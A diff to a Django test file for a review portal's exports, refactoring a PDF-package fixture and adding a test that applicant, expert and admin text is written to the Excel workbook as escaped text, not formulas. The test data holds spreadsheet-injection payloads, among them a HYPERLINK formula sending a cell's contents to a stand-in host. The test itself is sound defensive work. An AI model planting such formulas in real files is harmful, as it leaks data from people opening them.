@@ -1,16 +1,19 @@
 """Exports: the workbook read back with openpyxl, the ZIP by city, progress, and who may export."""
 
 import io
+import itertools
 import zipfile
 from pathlib import Path
 
 import pytest
 from django.core.files.base import ContentFile
+from django.core.files.storage import default_storage
 from django.urls import reverse
 from openpyxl import load_workbook
 
 from applications.models import Package
 from portal.audit.models import AuditAction, AuditEvent
+from portal.spreadsheets import FORMULA_STARTS
 from review.models import ExportJob
 
 from .conftest import expert_pool
@@ -24,6 +27,20 @@ def export(client, call, kind, capture):
     job = ExportJob.objects.get(call=call, kind=kind)
     assert job.state == ExportJob.State.READY, job.error
     return job
+
+
+def ready_packages(applications):
+    """A rendered package for each application; its PDF is "%PDF-1.7 " and the application's name."""
+    for index, application in enumerate(applications):
+        package = Package.objects.create(
+            kind=Package.Kind.APPLICATION,
+            application=application,
+            version_number=1,
+            input_hash=f"h{index}",
+            verify_code=f"V{index}",
+            state=Package.State.READY,
+        )
+        package.file.save(f"p{index}.pdf", ContentFile(b"%PDF-1.7 " + application.name.encode()))
 
 
 @pytest.fixture
@@ -73,16 +90,7 @@ def test_workbook_has_three_sheets_in_chinese_with_numbers_as_numbers(
 
 def test_packages_zip_has_a_folder_per_city(client, people, scored, django_capture_on_commit_callbacks):
     call = scored["pizhou"].call
-    for index, application in enumerate(scored.values()):
-        package = Package.objects.create(
-            kind=Package.Kind.APPLICATION,
-            application=application,
-            version_number=1,
-            input_hash=f"h{index}",
-            verify_code=f"V{index}",
-            state=Package.State.READY,
-        )
-        package.file.save(f"p{index}.pdf", ContentFile(b"%PDF-1.7 test"))
+    ready_packages(scored.values())
     client.force_login(people["province"])
     job = export(client, call, ExportJob.Kind.PACKAGES, django_capture_on_commit_callbacks)
     response = client.get(reverse("province:download_export", args=[job.pk]))
@@ -181,3 +189,32 @@ def test_the_workbook_opens_ready_to_read_and_names_what_was_computed(
     assert ranking[0][6] == "汇总得分（算术平均）" and ranking[0][7] == "汇总方式"
     assert {r[7] for r in ranking[1:]} == {"算术平均"}
     assert "去掉一个最高分" not in "".join(map(str, ranking[0]))
+
+
+FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1")
+
+
+def test_no_cell_of_the_workbook_is_a_formula_whatever_the_applicants_and_experts_typed(
+    client, people, scored, django_capture_on_commit_callbacks
+):
+    """Every text column an applicant, expert or administrator fills reaches the workbook as text."""
+    from applications.models import Application, ApplicationPart
+    from review.models import Assignment, Criterion
+
+    hostile = itertools.cycle(FORMULAS)
+    for application in scored.values():
+        Application.objects.filter(pk=application.pk).update(name=next(hostile))
+        for part in ApplicationPart.objects.filter(application=application):
+            part.data = {key: next(hostile) if isinstance(value, str) else value for key, value in part.data.items()}
+            part.save(update_fields=["data"])
+    for assignment in Assignment.objects.filter(application__in=scored.values()):
+        Assignment.objects.filter(pk=assignment.pk).update(comment=next(hostile))
+    Criterion.objects.filter(call=scored["pizhou"].call).update(name=next(hostile))
+    client.force_login(people["province"])
+    job = export(client, scored["pizhou"].call, ExportJob.Kind.WORKBOOK, django_capture_on_commit_callbacks)
+    workbook = load_workbook(default_storage.path(job.file.name))
+    text = [c for sheet in workbook for line in sheet.iter_rows() for c in line if isinstance(c.value, str)]
+    assert not [c.coordinate for sheet in workbook for line in sheet.iter_rows() for c in line if c.data_type == "f"]
+    assert not [c.value for c in text if c.value.startswith(FORMULA_STARTS)]
+    defused = {c.value for c in text if c.value.startswith("'")}
+    assert {"'" + formula for formula in FORMULAS} <= defused  # names, fields, comments and criteria all seen
